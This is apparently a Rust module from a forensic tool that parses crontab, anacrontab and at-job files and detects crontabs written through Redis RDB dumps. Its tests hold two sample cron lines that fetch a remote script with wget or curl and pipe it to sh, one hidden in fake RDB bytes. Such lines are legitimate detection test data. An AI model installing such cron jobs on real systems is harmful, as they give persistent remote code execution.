//! Crontab lines as cron reads them: `/etc/crontab` and `/etc/cron.d/*` carry a user field after the five
//! time fields, user spools (`/var/spool/cron/<user>`, `/var/spool/cron/crontabs/<user>`) do not;
//! `@reboot`-style nicknames replace the time fields; `NAME=value` lines set the environment.
//! Also `/etc/anacrontab` (`period delay id command`) and the Redis RDB header that marks a crontab written
//! through `CONFIG SET dir` + `SAVE`.

use super::{numbered_lines, words};

/// Whether the file has a user field.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CronFormat {
    /// `/etc/crontab`, `/etc/cron.d/*`: `m h dom mon dow user command`.
    System,
    /// A user's spool crontab: `m h dom mon dow command`.
    User,
    /// `/etc/anacrontab`: `period delay job-id command`.
    Anacron,
}

/// When an entry runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Schedule {
    /// The five time fields as written.
    Fields(Vec<Vec<u8>>),
    /// `@reboot`, `@daily`, ... (lowercased, with the `@`).
    Nickname(String),
    /// Anacron period and delay.
    Anacron {
        period: Vec<u8>,
        delay: Vec<u8>,
        id: Vec<u8>,
    },
}

impl Schedule {
    /// True for `@reboot`: runs at every boot.
    pub fn at_boot(&self) -> bool {
        matches!(self, Schedule::Nickname(n) if n == "@reboot")
    }

    /// True when it fires at least every few minutes (`* * * * *`, `*/1..*/10` in the minute field with
    /// every hour).
    pub fn frequent(&self) -> bool {
        let Schedule::Fields(f) = self else {
            return false;
        };
        let (Some(min), Some(hour)) = (f.first(), f.get(1)) else {
            return false;
        };
        let every_hour = hour.as_slice() == b"*";
        let every_few = min.as_slice() == b"*"
            || min
                .strip_prefix(b"*/")
                .and_then(|n| std::str::from_utf8(n).ok())
                .and_then(|n| n.parse::<u32>().ok())
                .is_some_and(|n| n <= 10);
        every_hour && every_few
    }

    pub fn display(&self) -> String {
        match self {
            Schedule::Fields(f) => f
                .iter()
                .map(|x| minetrace_schemas::escape_bytes(x))
                .collect::<Vec<_>>()
                .join(" "),
            Schedule::Nickname(n) => n.clone(),
            Schedule::Anacron { period, delay, id } => format!(
                "{} {} {}",
                minetrace_schemas::escape_bytes(period),
                minetrace_schemas::escape_bytes(delay),
                minetrace_schemas::escape_bytes(id)
            ),
        }
    }
}

/// A job line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CronEntry {
    /// 1-based line number in the file.
    pub line: u32,
    pub schedule: Schedule,
    /// The user field of system crontabs.
    pub user: Option<Vec<u8>>,
    /// The command, from its first byte to the end of the line (cron's `%` left as is).
    pub command: Vec<u8>,
    /// The whole line as written (without the line ending).
    pub raw: Vec<u8>,
}

/// One line of a crontab, classified.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CronLine {
    Entry(CronEntry),
    /// `NAME=value` (spaces around `=` allowed, value quotes kept).
    Env {
        line: u32,
        name: Vec<u8>,
        value: Vec<u8>,
    },
    /// Blank or `#` comment.
    Comment {
        line: u32,
    },
    /// Anything cron would reject: junk bytes, a truncated entry, RDB padding.
    Invalid {
        line: u32,
        raw: Vec<u8>,
    },
}

const NICKNAMES: &[&str] = &[
    "@reboot",
    "@yearly",
    "@annually",
    "@monthly",
    "@weekly",
    "@daily",
    "@midnight",
    "@hourly",
];

/// The format a crontab at this host path is read in, or `None` when the path is not a crontab
/// (scripts in `/etc/cron.{hourly,daily,weekly,monthly}` are shell, not crontabs). Where crontabs live is
/// the table the collector walks by ([`minetrace_schemas::locations::PERSISTENCE_LOCATIONS`]).
pub fn format_for_path(path: &[u8]) -> Option<CronFormat> {
    use minetrace_schemas::locations::{persistence_location, Mechanism};
    match persistence_location(path)?.mechanism {
        Mechanism::SystemCrontab => Some(CronFormat::System),
        Mechanism::Anacrontab => Some(CronFormat::Anacron),
        // at's output spool beside the crontabs is no crontab.
        Mechanism::UserCrontab if super::basename(path) != b"atspool" => Some(CronFormat::User),
        _ => None,
    }
}

/// The account a user spool crontab belongs to (its file name), for spool paths.
pub fn spool_user(path: &[u8]) -> Option<&[u8]> {
    match format_for_path(path) {
        Some(CronFormat::User) => Some(super::basename(path)),
        _ => None,
    }
}

/// The service (its `services.txt` name) that writes RDB dumps: a file [`is_redis_rdb`] recognises was
/// written through it.
pub const RDB_WRITER: &str = "redis";

/// True when the bytes start like a Redis RDB dump (`REDIS` and a four-digit version): a crontab or key
/// file written by an attacker through an unauthenticated Redis (`CONFIG SET dir`, `dbfilename`, `SAVE`).
pub fn is_redis_rdb(bytes: &[u8]) -> bool {
    match bytes.get(..9) {
        Some(head) => {
            head.starts_with(b"REDIS")
                && head
                    .get(5..)
                    .is_some_and(|v| v.iter().all(u8::is_ascii_digit))
        }
        None => false,
    }
}

/// Classifies one line.
pub fn parse_line(line_no: u32, raw: &[u8], format: CronFormat) -> CronLine {
    let text = raw.trim_ascii();
    if text.is_empty() || text.starts_with(b"#") {
        return CronLine::Comment { line: line_no };
    }
    let invalid = || CronLine::Invalid {
        line: line_no,
        raw: raw.to_vec(),
    };
    let first = text.first().copied().unwrap_or_default();
    let starts_entry = first == b'*' || first == b'@' || first.is_ascii_digit();
    if !starts_entry || (format == CronFormat::Anacron && !first.is_ascii_digit() && first != b'@')
    {
        return match env_assignment(text) {
            Some((name, value)) => CronLine::Env {
                line: line_no,
                name,
                value,
            },
            None => invalid(),
        };
    }
    // Position-based split so the command keeps its inner spacing.
    let mut rest = text;
    let take_field = |rest: &mut &[u8]| -> Option<Vec<u8>> {
        let trimmed = rest.trim_ascii_start();
        let end = trimmed
            .iter()
            .position(|b| *b == b' ' || *b == b'\t')
            .unwrap_or(trimmed.len());
        let (field, tail) = trimmed.split_at(end);
        *rest = tail;
        (!field.is_empty()).then(|| field.to_vec())
    };
    let schedule = if first == b'@' {
        let Some(nick) = take_field(&mut rest) else {
            return invalid();
        };
        let nick = String::from_utf8_lossy(&nick).to_ascii_lowercase();
        if !NICKNAMES.contains(&nick.as_str()) {
            return invalid();
        }
        Schedule::Nickname(nick)
    } else if format == CronFormat::Anacron {
        let (Some(period), Some(delay), Some(id)) = (
            take_field(&mut rest),
            take_field(&mut rest),
            take_field(&mut rest),
        ) else {
            return invalid();
        };
        Schedule::Anacron { period, delay, id }
    } else {
        let mut fields = Vec::with_capacity(5);
        for _ in 0..5 {
            match take_field(&mut rest) {
                Some(f)
                    if f.iter()
                        .all(|b| b.is_ascii_alphanumeric() || b"*/,-".contains(b)) =>
                {
                    fields.push(f)
                }
                _ => return invalid(),
            }
        }
        Schedule::Fields(fields)
    };
    let user = if format == CronFormat::System {
        match take_field(&mut rest) {
            Some(u) => Some(u),
            None => return invalid(),
        }
    } else {
        None
    };
    let command = rest.trim_ascii();
    if command.is_empty() {
        return invalid();
    }
    CronLine::Entry(CronEntry {
        line: line_no,
        schedule,
        user,
        command: command.to_vec(),
        raw: raw.to_vec(),
    })
}

/// `NAME=value` as cron accepts it: a name without spaces, `=`, a value (surrounding quotes kept).
fn env_assignment(text: &[u8]) -> Option<(Vec<u8>, Vec<u8>)> {
    let eq = text.iter().position(|b| *b == b'=')?;
    let name = text.get(..eq)?.trim_ascii();
    if name.is_empty()
        || name
            .iter()
            .any(|b| b.is_ascii_whitespace() || !b.is_ascii_graphic())
    {
        return None;
    }
    let value = text.get(eq + 1..)?.trim_ascii();
    Some((name.to_vec(), value.to_vec()))
}

/// Every line of a crontab, classified, with line numbers as in the file.
pub fn parse(bytes: &[u8], format: CronFormat) -> Vec<CronLine> {
    numbered_lines(bytes)
        .map(|(n, l)| parse_line(n, l, format))
        .collect()
}

/// Only the job lines.
pub fn entries(bytes: &[u8], format: CronFormat) -> Vec<CronEntry> {
    parse(bytes, format)
        .into_iter()
        .filter_map(|l| match l {
            CronLine::Entry(e) => Some(e),
            _ => None,
        })
        .collect()
}

/// The `at` job body: shell text after the environment preamble `at` writes. Returns every line with its
/// number; callers treat it as a script.
pub fn at_job_lines(bytes: &[u8]) -> impl Iterator<Item = (u32, &[u8])> {
    numbered_lines(bytes).filter(|(_, l)| {
        let t = l.trim_ascii();
        !(t.is_empty() || t.starts_with(b"#") || at_preamble(t))
    })
}

/// Lines `at` writes itself: `NAME=value; export NAME`, `umask 22`, `cd /dir || {`, the error echo.
fn at_preamble(t: &[u8]) -> bool {
    let first: Vec<&[u8]> = words(t).take(2).collect();
    match first.as_slice() {
        [w, ..] if w.starts_with(b"umask") => true,
        [w, ..] if *w == b"export" => true,
        [w, ..] if *w == b"}" => true,
        [w, ..] if w.starts_with(b"echo") && super::contains(t, b"inaccessible") => true,
        [w, ..] if *w == b"cd" && super::contains(t, b"|| {") => true,
        [w, ..] => {
            // `NAME=value; export NAME`
            w.contains(&b'=') && super::contains(t, b"; export ")
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn system_and_user_entries() {
        let text = b"SHELL=/bin/sh\nPATH = /usr/bin:/bin\n# comment\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot  root /usr/bin/x  -a\n";
        let lines = parse(text, CronFormat::System);
        assert!(matches!(&lines[0], CronLine::Env { name, .. } if name == b"SHELL"));
        assert!(
            matches!(&lines[1], CronLine::Env { name, value, .. } if name == b"PATH" && value == b"/usr/bin:/bin")
        );
        assert!(matches!(lines[2], CronLine::Comment { line: 3 }));
        let CronLine::Entry(e) = &lines[3] else {
            panic!("{:?}", lines[3])
        };
        assert_eq!(e.line, 4);
        assert_eq!(e.user.as_deref(), Some(&b"root"[..]));
        assert_eq!(e.command, b"cd / && run-parts --report /etc/cron.hourly");
        let CronLine::Entry(e) = &lines[4] else {
            panic!()
        };
        assert!(e.schedule.at_boot());
        assert_eq!(e.command, b"/usr/bin/x  -a");

        let user = entries(
            b"* * * * * wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1",
            CronFormat::User,
        );
        assert_eq!(user.len(), 1);
        assert!(user[0].schedule.frequent());
        assert_eq!(user[0].user, None);
        assert!(user[0].command.starts_with(b"wget"));
    }

    #[test]
    fn rdb_junk_keeps_the_embedded_line() {
        let mut bytes = b"REDIS0009\xfa\tredis-ver\x056.0.16\xfa\nredis-bits\xc0@\xfe\x00\xfb\x01\x00\x00\x01x\x1d".to_vec();
        bytes.extend(b"\n\n*/1 * * * * curl -fsSL http://127.66.0.1/x.sh | sh\n\n\xff\x9a\x12junk");
        assert!(is_redis_rdb(&bytes));
        let lines = parse(&bytes, CronFormat::User);
        let entries: Vec<_> = lines
            .iter()
            .filter_map(|l| {
                if let CronLine::Entry(e) = l {
                    Some(e)
                } else {
                    None
                }
            })
            .collect();
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0].line, 4);
        assert!(lines
            .iter()
            .any(|l| matches!(l, CronLine::Invalid { line: 1, .. })));
        assert!(!is_redis_rdb(b"REDIS"));
        assert!(!is_redis_rdb(b"* * * * * x"));
    }

    #[test]
    fn paths_and_formats() {
        assert_eq!(format_for_path(b"/etc/crontab"), Some(CronFormat::System));
        assert_eq!(
            format_for_path(b"/etc/cron.d/php"),
            Some(CronFormat::System)
        );
        assert_eq!(
            format_for_path(b"/var/spool/cron/crontabs/redis"),
            Some(CronFormat::User)
        );
        assert_eq!(
            format_for_path(b"/var/spool/cron/root"),
            Some(CronFormat::User)
        );
        assert_eq!(format_for_path(b"/var/spool/cron/crontabs"), None);
        assert_eq!(format_for_path(b"/etc/cron.daily/logrotate"), None);
        assert_eq!(
            spool_user(b"/var/spool/cron/crontabs/redis"),
            Some(&b"redis"[..])
        );
    }

    #[test]
    fn junk_and_truncated_lines_are_invalid() {
        for l in [
            &b"* * * *"[..],
            b"1 2 3 4 5",
            b"1 2 3 4 5 root",
            b"@never x",
            b"\xff\xfe",
        ] {
            assert!(
                matches!(
                    parse_line(1, l, CronFormat::System),
                    CronLine::Invalid { .. }
                ),
                "{l:?}"
            );
        }
        let a = entries(
            b"1\t5\tcron.daily\trun-parts /etc/cron.daily\n",
            CronFormat::Anacron,
        );
        assert_eq!(a[0].command, b"run-parts /etc/cron.daily");
    }
}
